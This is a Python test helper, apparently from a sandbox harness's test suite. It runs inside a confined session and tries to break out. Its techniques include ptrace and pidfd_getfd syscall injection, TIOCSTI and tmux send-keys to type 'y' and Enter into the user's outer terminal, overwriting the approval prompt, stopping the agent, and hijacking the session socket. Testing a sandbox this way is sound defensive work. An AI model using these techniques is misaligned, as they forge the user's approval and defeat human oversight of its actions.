"""Attacks of a session's command on what is outside of it, as the same user; it runs as `FILE`.

It imports nothing of ours, since it runs where a program of anybody runs. For each line of the file
`order` (a number, whether to ask for a write, names of attacks) it makes them, and writes to
`done.NUMBER` which of them reached something, and to `ended.NUMBER` how the write ended.

NOTE: it presses keys in the one terminal that it is told of, never in another of the user's.
"""

import ctypes
import fcntl
import json
import os
import platform
import signal
import socket
import subprocess
import termios
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from pathlib import Path
from typing import IO, Any

SYSTEM = ctypes.CDLL(None, use_errno=True)
TERMINAL, AGENT = os.environ.get("TERMINAL", ""), int(os.environ.get("AGENT", "0"))
KEYS = (b"y", b"\r")
BETWEEN = 0.05
"""Seconds between two keys; what comes at once is taken for a paste, and answers nothing."""
KNOWN = (
    *("AEGIS", "AEGIS_SESSION", "AGENT", "OUTER", "TERMINAL"),
    *("SOCKETS", "PORT", "TMUX_SOCKET"),
)
"""The variables that it goes by."""
_PATIENCE = 20.0


def _ends(pid: str) -> Iterator[int]:
    """Yield the descriptors by which a process drives the terminal."""
    with suppress(OSError):
        for path in Path(f"/proc/{pid}/fdinfo").iterdir():
            with suppress(OSError):
                if f"tty-index:\t{Path(TERMINAL).name}\n" in path.read_text():
                    yield int(path.name)


def _drivers() -> Iterator[tuple[int, int]]:
    for path in Path("/proc").glob("[0-9]*"):
        for descriptor in _ends(path.name):
            yield int(path.name), descriptor


def takes_emulator() -> bool:
    for pid, descriptor in _drivers():
        taken = SYSTEM.syscall(438, os.pidfd_open(pid), descriptor, 0)  # pidfd_getfd
        if taken >= 0:
            for key in KEYS:
                os.write(taken, key)
                time.sleep(BETWEEN)
            os.close(taken)
            return True
    return False


def traces_emulator() -> bool:
    return any(_types(pid, _WRITE, descriptor) for pid, descriptor in _drivers())


def traces_shell() -> bool:
    """Have the shell above the session type, at its own terminal."""
    return _types(int(os.environ.get("OUTER", "0")), _CONTROL, 0)


_RAX, _RDX, _RSI, _RDI, _ORIGINAL, _RIP, _RSP = 10, 12, 13, 14, 15, 16, 19
_ATTACH, _DETACH, _STEP, _GET, _SET = 16, 17, 9, 12, 13
_WRITE, _CONTROL = 1, 16
"""The numbers of these calls, and the places of these registers, on x86-64."""
_BELOW = 512
"""Bytes of the stack that nobody uses."""


def _types(pid: int, number: int, descriptor: int) -> bool:
    """Have a process that is traced write the keys, or type them, one after another."""
    for key in KEYS:
        if not _calls(pid, number, descriptor, key):
            return False
        time.sleep(BETWEEN)
    return True


def _calls(pid: int, number: int, descriptor: int, key: bytes) -> bool:
    """Trace a process, and have it write a key, or type it, by a call of the system."""
    if pid <= 1 or SYSTEM.ptrace(_ATTACH, pid, None, None):
        return False
    os.waitpid(pid, 0x40000000)
    before = (ctypes.c_uint64 * 27)()
    SYSTEM.ptrace(_GET, pid, None, before)
    place = before[_RSP] - _BELOW
    with Path(f"/proc/{pid}/mem").open("r+b", buffering=0) as memory:
        kept = [
            (at, _swapped(memory, at, data)) for at, data in ((before[_RIP], _CALL), (place, key))
        ]
        words = (place, len(key)) if number == _WRITE else (termios.TIOCSTI, place)
        end = _called(pid, before, number, descriptor, *words)
        for at, data in kept:
            _swapped(memory, at, data)
    SYSTEM.ptrace(_SET, pid, None, before)
    SYSTEM.ptrace(_DETACH, pid, None, None)
    return end >= 0


_CALL = b"\x0f\x05"


def _swapped(memory: IO[bytes], place: int, data: bytes) -> bytes:
    memory.seek(place)
    old = memory.read(len(data))
    memory.seek(place)
    memory.write(data)
    return old


def _called(pid: int, before: "ctypes.Array[ctypes.c_uint64]", number: int, *words: int) -> int:
    """Have a traced process make a call, and return what comes of it."""
    registers = (ctypes.c_uint64 * 27)(*before)
    registers[_RAX], registers[_ORIGINAL] = number, 2**64 - 1  # no call is to be begun anew
    registers[_RDI], registers[_RSI], registers[_RDX] = words
    SYSTEM.ptrace(_SET, pid, None, registers)
    SYSTEM.ptrace(_STEP, pid, None, None)
    os.waitpid(pid, 0x40000000)
    SYSTEM.ptrace(_GET, pid, None, registers)
    return ctypes.c_int64(registers[_RAX]).value


def asks_tmux() -> bool:
    words = ["tmux", "-S", os.environ["TMUX_SOCKET"], "send-keys"]
    nowhere = subprocess.DEVNULL
    for key in ("y", "Enter"):
        if subprocess.call([*words, key], stdin=nowhere, stdout=nowhere, stderr=nowhere):
            return False
        time.sleep(BETWEEN)
    return True


def _by_name() -> int:
    """Open the person's terminal; in a /dev of one's own, that name is of another."""
    descriptor = os.open(TERMINAL, os.O_RDWR | os.O_NOCTTY)
    if os.path.samestat(os.fstat(descriptor), os.fstat(0)):
        os.close(descriptor)
        raise FileNotFoundError
    return descriptor


def types_by_name() -> bool:
    descriptor = _by_name()
    try:
        for key in KEYS:
            fcntl.ioctl(descriptor, termios.TIOCSTI, key)
    finally:
        os.close(descriptor)
    return True


def paints() -> bool:
    descriptor = _by_name()
    os.write(descriptor, b"PAINTED")
    os.close(descriptor)
    return True


def stops() -> bool:
    os.kill(AGENT, signal.SIGSTOP)
    return True


def _connects(family: int, address: Any) -> bool:
    with socket.socket(family) as line:
        line.settimeout(5)
        line.connect(address)
        return line.recv(1) == b"x"


def _to(name: str) -> Callable[[], bool]:
    return lambda: _connects(socket.AF_UNIX, json.loads(os.environ["SOCKETS"])[name])


def connects_by_network() -> bool:
    return _connects(socket.AF_INET, ("127.0.0.1", int(os.environ["PORT"])))


def replaces() -> bool:
    """Listen in the session's place, and take a folder from whoever connects from outside."""
    address = os.environ["AEGIS_SESSION"]
    Path(address).rename(f"{address}.before")
    try:
        with socket.socket(socket.AF_UNIX) as listening:
            listening.bind(address)
            listening.listen()
            listening.settimeout(_PATIENCE)
            _write("replaced", address)
            with listening.accept()[0] as line:
                _, given, _, _ = socket.recv_fds(line, 65536, 8)
                for descriptor in given:
                    os.close(descriptor)
                return bool(given)
    finally:
        Path(f"{address}.before").replace(address)


STOPS = "stops the session (SIGSTOP)"
BY_NAME = "types into the outer terminal by its name (TIOCSTI)"
APPROVING: dict[str, Callable[[], bool]] = {
    "takes the terminal emulator's end (pidfd_getfd) and types": takes_emulator,
    "traces the terminal emulator (ptrace) and types": traces_emulator,
    "traces the shell above (ptrace), which types (TIOCSTI)": traces_shell,
    "asks tmux for the keys (send-keys)": asks_tmux,
    BY_NAME: types_by_name,
}
OTHERS: dict[str, Callable[[], bool]] = {
    "writes over the question by the terminal's name": paints,
    STOPS: stops,
    "connects to a socket in the home folder": _to("home"),
    "connects to a socket that was renamed": _to("renamed"),
    "connects to a socket in the folder for temporary files": _to("temporary"),
    "connects to an abstract socket": _to("abstract"),
    "connects to a port of this machine": connects_by_network,
    "takes a folder from outside, in the session's place": replaces,
}
ATTACKS = APPROVING | OTHERS
if platform.machine() != "x86_64":  # the registers of others have other names
    for traced in [name for name in APPROVING if "ptrace" in name]:
        del APPROVING[traced]


def _reaches(name: str) -> bool:
    try:
        return ATTACKS[name]()
    except OSError:
        return False


def _await(path: str) -> None:
    while not Path(path).exists():
        time.sleep(0.005)


def _write(path: str, text: str) -> None:
    Path(f"{path}.new").write_text(text)
    Path(f"{path}.new").rename(path)


def main() -> None:
    """Obey, until the terminal is gone."""
    _write("ready.0", json.dumps({name: os.environ.get(name, "") for name in KNOWN}))
    number = 0
    while True:
        _await(f"order.{number}")
        asks, names = json.loads(Path(f"order.{number}").read_text())
        nowhere = subprocess.DEVNULL
        words = [os.environ["AEGIS"], *asks]
        client = (
            subprocess.Popen(words, stdin=nowhere, stdout=nowhere, stderr=nowhere) if asks else None
        )
        _await(f"stands.{number}")
        _write(f"done.{number}", json.dumps([name for name in names if _reaches(name)]))
        _write(f"ended.{number}", str(client.wait() if client else 0))
        number += 1


if __name__ == "__main__":
    main()
